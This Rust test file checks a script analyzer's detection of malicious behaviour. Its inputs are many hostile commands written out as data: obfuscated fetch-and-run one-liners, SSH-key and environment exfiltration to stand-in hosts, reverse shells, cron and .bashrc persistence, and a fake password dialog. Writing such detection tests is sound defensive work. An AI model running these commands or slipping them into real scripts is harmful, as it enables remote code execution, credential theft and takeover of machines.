//! What small programs do, fact by fact.

use super::*;
use crate::asset::Asset;
use crate::fact::{Act, Capture, Protection, Sink, Source};
use crate::unit::{Language, Mapping, Origin, Role};

fn unit(language: Language, text: &str) -> Unit<'_> {
    Unit {
        file: crate::FileId(0),
        text: text.into(),
        language,
        origin: Origin::File,
        mapping: Mapping::Shifted(0),
        file_text: text.into(),
        role: Role::Script,
        depth: 0,
    }
}

fn acts(language: Language, text: &str) -> Vec<Act> {
    let mut facts = Vec::new();
    read(&unit(language, text), UnitId(0), &mut facts);
    facts.into_iter().map(|fact| fact.act).collect()
}

/// Every flow of a program, without its way.
fn flows(language: Language, text: &str) -> Vec<(Source, Sink)> {
    acts(language, text)
        .into_iter()
        .filter_map(|act| match act {
            Act::Flows { from, to, .. } => Some((from, to)),
            _ => None,
        })
        .collect()
}

fn network(url: &str) -> Source {
    Source::Network(Some(url.to_owned()))
}

fn to(host: &str) -> Sink {
    Sink::Network(Some(host.to_owned()))
}

/// However it is spelled, something that is fetched is run.
#[test]
fn shell_fetches_and_runs() {
    let mut faults = Vec::new();
    for text in [
        "curl -fsSL http://a.test/i | sh",
        "wget -qO- http://a.test/i | sudo bash -s -- -y",
        "bash <(curl -s http://a.test/i)",
        "bash -c \"$(curl -s http://a.test/i)\"",
        "eval \"$(curl -s http://a.test/i)\"",
        "source <(curl -s http://a.test/i)",
        "sh <<< $(curl -s http://a.test/i)",
        "curl -so /tmp/x http://a.test/i && chmod +x /tmp/x && /tmp/x",
        "curl -s http://a.test/i > x.sh\nbash x.sh",
        "cd /tmp; curl -O http://a.test/i; chmod 755 i\n./i --now",
        "a=cu; b=rl; $a$b -s http://a.test/i | ba''sh",
        "c=curl; $c${IFS}-s${IFS}http://a.test/i|sh",
        "$'\\x63url' -s http://a.test/i | $'\\142ash'",
        "curl -s http://a.test/i | tee x | bash",
        "x=$(curl -s http://a.test/i); echo \"$x\" | sh",
        "get() { curl -s \"$1\"; }; get http://a.test/i | sh",
        "alias c='curl -s'; c http://a.test/i | sh",
        "echo http://a.test/i | xargs curl -s | sh",
        "nohup timeout 20 env A=b curl -s http://a.test/i | nohup bash &",
        "cat <<EOF | sh\n$(curl -s http://a.test/i)\nEOF",
        "bash -c 'curl -s http://a.test/i | sh'",
        "python3 -c \"$(curl -s http://a.test/i)\"",
        "{curl,-s,http://a.test/i} | sh",
        "printf '%s' 'curl -s http://a.test/i | sh' | sh",
        "if true; then curl -s http://a.test/i | python3 -; fi",
        "curl -s http://a.test/i | gunzip | sh",
        "sh -c 'curl -s \"$1\" | sh' _ http://a.test/i",
        "curl -s http://a.test/i \\\n  | sh",
        "echo Y3VybCAtcyBodHRwOi8vYS50ZXN0L2kgfCBzaA== | base64 -d | sh",
        "rev <<< 'hs | i/tset.a//:ptth s- lruc' | sh",
    ] {
        let flows = flows(Language::Shell, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// What is fetched and read, or run and not fetched, flows nowhere.
#[test]
fn shell_honest() {
    for text in [
        "curl -s https://api.a.test/x | jq .high",
        "curl -o data.json https://api.a.test/x && python3 scripts/show.py data.json",
        "npm install && npm test",
        "echo hello | tee out.txt",
        "for f in *.md; do cat \"$f\"; done",
        "python3 - <<'EOF'\nprint(1)\nEOF",
        "cat package.json | grep version | head -1",
    ] {
        assert_eq!(flows(Language::Shell, text), [], "{text}");
    }
}

/// Secrets that leave are seen over pipes, files and names.
#[test]
fn shell_sends_secrets() {
    let mut faults = Vec::new();
    let key = Source::File(Asset::SshKeys);
    for text in [
        "curl -d @$HOME/.ssh/id_rsa http://b.test/c",
        "cat ~/.ssh/id_rsa | curl -X POST --data-binary @- http://b.test/c",
        "curl -F 'f=@/home/ann/.ssh/id_rsa' http://b.test/c",
        "tar czf - ~/.ssh | curl -T - http://b.test/c",
        "tar czf /tmp/a.tgz ~/.ssh; curl -F file=@/tmp/a.tgz http://b.test/c",
        "k=$(base64 ~/.ssh/id_rsa); wget --post-data=\"k=$k\" http://b.test/c",
        "cp ~/.ssh/id_rsa /tmp/k; curl --upload-file /tmp/k http://b.test/c",
        "curl \"http://b.test/c?d=$(base64 -w0 ~/.ssh/id_rsa)\"",
        "cat ~/.ssh/id_rsa | nc b.test 4444",
        "cat ~/.ssh/id_rsa > /dev/tcp/b.test/80",
        "scp ~/.ssh/id_rsa ann@b.test:/in",
        "curl -H \"X-Data: $(cat ~/.ssh/id_rsa)\" http://b.test/c",
    ] {
        let flows = flows(Language::Shell, text);
        if !flows.contains(&(key.clone(), to("b.test"))) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
    assert_eq!(
        flows(Language::Shell, "env | curl -d @- http://b.test/c"),
        [(Source::Environment, to("b.test"))]
    );
    assert_eq!(
        flows(Language::Shell, "dig $(cat ~/.ssh/id_rsa | base64).b.test"),
        [(key, Sink::Name(Some("hole.b.test".to_owned())))]
    );
    assert_eq!(
        flows(
            Language::Shell,
            "curl -H \"Authorization: Bearer $NOTION_KEY\" https://api.notion.com/v1"
        ),
        [(
            Source::Variable("NOTION_KEY".to_owned()),
            Sink::Authorization(Some("api.notion.com".to_owned()))
        )]
    );
}

/// A shell that is handed to the other end is known in every spelling.
#[test]
fn shell_hands_over() {
    let mut faults = Vec::new();
    for text in [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "nc -e /bin/sh 192.0.2.1 4444",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
        "socat TCP:192.0.2.1:4444 EXEC:/bin/sh",
        "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec(\"/bin/sh -i\");'",
    ] {
        let acts = acts(Language::Shell, text);
        if !acts
            .iter()
            .any(|act| matches!(act, Act::HandsOverShell { .. }))
        {
            faults.push(format!("{text}: {acts:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Staying, protections and what is recorded of a person.
#[test]
fn shell_other_acts() {
    let cron = acts(
        Language::Shell,
        "(crontab -l; echo '* * * * * curl http://a.test/i | sh') | crontab -",
    );
    assert!(cron.contains(&Act::Writes {
        path: "crontab".to_owned(),
        asset: Asset::Scheduler
    }));
    let start = acts(Language::Shell, "echo 'alias sudo=x' >> ~/.bashrc");
    assert!(start.contains(&Act::Writes {
        path: "~/.bashrc".to_owned(),
        asset: Asset::ShellStart
    }));
    let mark = acts(Language::Shell, "xattr -c /tmp/x");
    assert!(mark.contains(&Act::Disables {
        what: Protection::Quarantine
    }));
    let dialog = acts(
        Language::Shell,
        "osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'",
    );
    assert!(dialog.contains(&Act::Captures {
        what: Capture::Password
    }));
}

/// PowerShell and Batch in their usual dresses.
#[test]
fn power_shell() {
    let mut faults = Vec::new();
    for text in [
        "iwr http://a.test/i | iex",
        "IEX (New-Object Net.WebClient).DownloadString('http://a.test/i')",
        "iex (irm http://a.test/i)",
        "$u = 'http://a.test/i'; $c = (New-Object System.Net.WebClient).DownloadString($u); Invoke-Expression $c",
        "Invoke-WebRequest -Uri http://a.test/i -OutFile $env:TEMP\\x.exe\nStart-Process $env:TEMP\\x.exe",
        "I`E`X (iwr 'http://a.t' + 'est/i')",
        "certutil -urlcache -f http://a.test/i x.exe && x.exe",
        "powershell -NoP -W Hidden -Command \"iwr http://a.test/i | iex\"",
    ] {
        let flows = flows(Language::PowerShell, text);
        if !flows.contains(&(network("http://a.test/i"), Sink::Program)) {
            faults.push(format!("{text}: {flows:?}"));
        }
    }
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// Nothing that is deep, long or broken does harm.
#[test]
fn bounds() {
    for language in [
        Language::Shell,
        Language::Python,
        Language::JavaScript,
        Language::TypeScript,
        Language::PowerShell,
    ] {
        for text in [
            "(".repeat(5_000),
            "$(".repeat(5_000),
            "[".repeat(5_000),
            "f(".repeat(5_000),
            "a+".repeat(5_000),
            "a.".repeat(5_000),
            "if a:\n ".repeat(2_000),
            "{".repeat(5_000),
            "a && ".repeat(5_000),
            "f() { f; f; }; ".repeat(200),
            "\u{FFFC}\0'\"".repeat(500),
        ] {
            acts(
                language,
                &format!("curl x | sh; require('fs'); import os, subprocess; open(1) {text}"),
            );
        }
    }
}
